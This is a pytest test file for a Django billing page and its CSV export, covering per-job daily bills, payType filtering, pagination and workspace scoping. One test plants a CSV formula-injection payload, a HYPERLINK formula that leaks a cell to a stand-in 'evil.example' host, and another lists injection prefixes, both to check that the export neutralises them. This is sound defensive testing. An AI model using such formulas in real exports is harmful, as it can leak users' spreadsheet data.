"""The bills page and its CSV export: daily bills per workspace and job, the payType tag,
pagination, and workspace scoping."""

from __future__ import annotations

import csv
import io
import random
import re
from datetime import timedelta
from decimal import Decimal as D
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from apps.billing.models import BillDay, BillLine
from apps.billing.services import Line, bill_lines_record, billing_accrue
from apps.market.services import market_step
from tests.integration.test_market_step import submit


@pytest.fixture(autouse=True)
def _fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def billed(personas):
    """Team A: a spot job and a pay-as-you-go job billed for 3 minutes each, and a line from
    yesterday (a complete day). Team B (charlie): a pay-as-you-go job of its own."""
    start = timezone.now().replace(second=0, microsecond=0) - timedelta(minutes=3)
    spot = submit(personas, discount="0.9", now=start, name="spot-train")
    payg = submit(personas, source="public", now=start, name="payg-train")
    theirs = submit(
        personas, source="public", now=start, name="charlies-job", ws="ws_b", user="charlie"
    )
    market_step(now=start, rng=random.Random(1))
    billing_accrue(now=start + timedelta(minutes=2, seconds=30))
    line = BillLine.objects.filter(job=payg).first()
    yesterday = line.day - timedelta(days=1)
    bill_lines_record(
        [
            Line(
                workspace_id=line.workspace_id,
                job_id=payg.pk,
                pod_id=line.pod_id,
                minute=line.minute - 1440,
                day=yesterday,
                instance_type_id=line.instance_type_id,
                price_per_hour=D("0.8"),
                amount=D("0.013333"),
                pay_type="postpaid",
            )
        ]
    )
    return {"spot": spot, "payg": payg, "theirs": theirs, "yesterday": yesterday}


def test_it_shows_daily_bills_per_workspace_and_job(alice_client, billed):
    response = alice_client.get(reverse("billing:index"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "spot-train" in html and "payg-train" in html
    days = response.context["days"]
    assert [d.complete for d in days] == [False, True]
    assert days[1].day == billed["yesterday"] and days[1].postpaid == D("0.013333")
    assert "complete" in html and "open" in html
    assert "acs:pai:dlc:payType" in html


def test_it_filters_by_the_pay_type_tag(alice_client, billed):
    response = alice_client.get(reverse("billing:index"), {"pay_type": "spot"})
    html = response.content.decode()
    assert "spot-train" in html and "payg-train" not in html
    assert all(d.postpaid == 0 for d in response.context["days"])
    assert 'href="/bills/export.csv?pay_type=spot"' in html


def test_it_pages_the_job_bills(alice_client, billed, settings):
    settings.JOBS_PAGE_SIZE = 1
    first = alice_client.get(reverse("billing:index"))
    assert first.context["page"].paginator.num_pages == 3
    second = alice_client.get(
        reverse("billing:index"),
        {"page": 2},
        headers={"HX-Request": "true", "HX-Target": "job-bills"},
    )
    html = second.content.decode()
    assert html.lstrip().startswith('<div id="job-bills"') and "Page 2 of 3" in html


def test_it_keeps_other_workspaces_bills_out_of_sight(client, personas, billed):
    client.force_login(personas["charlie"])
    html = client.get(reverse("billing:index")).content.decode()
    assert "charlies-job" in html
    assert "spot-train" not in html and "payg-train" not in html
    rows = list(
        csv.reader(
            io.StringIO(b"".join(client.get(reverse("billing:export")).streaming_content).decode())
        )
    )
    assert {r[3] for r in rows[1:]} == {"charlies-job"}


def test_it_exports_the_bills_as_csv(alice_client, billed):
    response = alice_client.get(reverse("billing:export"), {"pay_type": "postpaid"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="bills-team-a-postpaid.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == [
        "day",
        "workspace",
        "job_id",
        "job_name",
        "pod",
        "instance_type",
        "tag:acs:pai:dlc:payType",
        "minutes",
        "amount",
    ]
    payg = billed["payg"]
    assert [r[0] for r in rows[1:]] == [billed["yesterday"].isoformat(), rows[2][0]]
    assert rows[2][1:] == [
        "team-a",
        payg.job_id,
        "payg-train",
        f"{payg.job_id}-worker-0-a0",
        "ecs.g7.xlarge",
        "postpaid",
        "3",
        "0.039999",
    ]


def test_it_exports_a_formula_named_job_as_text(alice_client, billed):
    from apps.jobs.models import Job

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    Job.objects.filter(pk=billed["payg"].pk).update(display_name=formula)
    response = alice_client.get(reverse("billing:export"), {"pay_type": "postpaid"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {r[3] for r in rows[1:]} == {"'" + formula}
    assert rows[2][7:] == ["3", "0.039999"]  # numbers stay numbers


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+A1", "'-1+A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("train=1", "train=1"),
        ("", ""),
        (3, 3),
        (D("-1.5"), D("-1.5")),
    ],
)
def test_it_neutralises_cells_a_spreadsheet_would_run(cell, written):
    from apps.core.csvexport import csv_safe

    assert csv_safe(cell) == written


@pytest.mark.parametrize("name", ["billing:index", "billing:export"])
def test_it_asks_anonymous_visitors_to_log_in(client, db, name):
    response = client.get(reverse(name))
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_its_job_cost_partial_shows_cost_for_spot_and_usage_for_quota_jobs(billed):
    from django.template.loader import render_to_string

    from apps.billing.selectors import job_usage
    from apps.jobs.models import Job

    html = render_to_string("billing/_job_cost.html", {"usage": job_usage(job=billed["spot"])})
    assert "Cost so far" in html and "acs:pai:dlc:payType=spot" in html
    spot = billed["spot"]
    quota = Job.objects.create(
        workspace=spot.workspace,
        user=spot.user,
        display_name="q",
        user_command="x",
        resource_source="quota",
        quota=spot.workspace.quotas.first(),
        submitted_at=spot.submitted_at,
        status_changed_at=spot.submitted_at,
    )
    html = render_to_string("billing/_job_cost.html", {"usage": job_usage(job=quota)})
    assert "PrePaid" in html and "GPU-hours" in html and "Cost so far" not in html


def test_the_tag_column_names_its_key_as_written(alice_client, billed):
    """Headers are set in capitals; the tag key is code and keeps its case."""
    html = alice_client.get(reverse("billing:index")).content.decode()
    assert "<th>Tag <code>acs:pai:dlc:payType</code></th>" in html
    css = (Path(__file__).resolve().parents[2] / "static" / "css" / "paiweb.css").read_text()
    assert re.search(r"\.table th code \{[^}]*text-transform: none", css)


def test_the_rows_add_up_to_the_days_bill_as_shown(alice_client, billed):
    """Two spot jobs of ¥0.004050 each read ¥0.0041 twice over a day of ¥0.0081: the
    amounts are shown as they are billed (to the CSV's and the API's 0.000001)."""
    line = BillLine.objects.filter(job=billed["spot"]).first()
    BillLine.objects.filter(day=line.day).delete()
    BillDay.objects.filter(day=line.day).delete()
    for job, minute in ((billed["spot"], 0), (billed["payg"], 1)):
        bill_lines_record(
            [
                Line(
                    workspace_id=line.workspace_id,
                    job_id=job.pk,
                    pod_id=job.pods.first().pk,
                    minute=line.minute + minute,
                    day=line.day,
                    instance_type_id=line.instance_type_id,
                    price_per_hour=D("0.243"),
                    amount=D("0.004050"),
                    pay_type="spot",
                )
            ]
        )

    response = alice_client.get(reverse("billing:index"))

    html = response.content.decode()
    assert html.count("¥0.004050") == 2  # the two jobs
    assert html.count("¥0.008100") == 2  # the day's spot and its total
    detail = alice_client.get(reverse("jobs:detail", args=[billed["spot"].job_id]))
    assert "¥0.004050" in detail.content.decode()


@pytest.mark.parametrize(
    "query, says",
    [({}, "尚无任务产生账单。"), ({"pay_type": "spot"}, "没有任务按此标签产生账单。")],
)
def test_no_bills_yet_reads_as_one_sentence_in_chinese(alice_client, personas, query, says):
    """It was two pieces and an English full stop: "尚无任务产生账单 （按此标签筛选）."."""
    response = alice_client.get(
        reverse("billing:index"), query, headers={"accept-language": "zh-Hans"}
    )
    html = response.content.decode()
    assert says in html
    assert "账单." not in html and "筛选）." not in html
